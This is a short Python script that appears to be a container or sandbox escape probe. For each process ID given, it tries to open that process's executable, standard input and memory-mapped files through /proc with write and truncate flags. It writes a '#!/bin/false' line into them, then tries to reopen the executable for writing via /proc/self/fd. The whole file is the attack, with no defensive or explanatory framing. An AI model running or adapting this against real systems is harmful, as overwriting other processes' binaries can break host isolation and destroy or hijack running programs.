# Writes to the guest, and to the program that runs, through what the kernel shows of them.
import os, sys
for pid in sys.argv[1:]:
    for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
        for name in ("exe", "fd/0", "map_files"):
            try:
                fd = os.open("/proc/%s/%s" % (pid, name), flags)
                os.write(fd, b"#!/bin/false\n")
                print("wrote to", pid, name) if name == "exe" else None
            except OSError:
                pass
    try:
        fd = os.open("/proc/%s/exe" % pid, os.O_RDONLY)
        os.open("/proc/self/fd/%d" % fd, os.O_WRONLY); print("reopened", pid)
    except OSError:
        pass
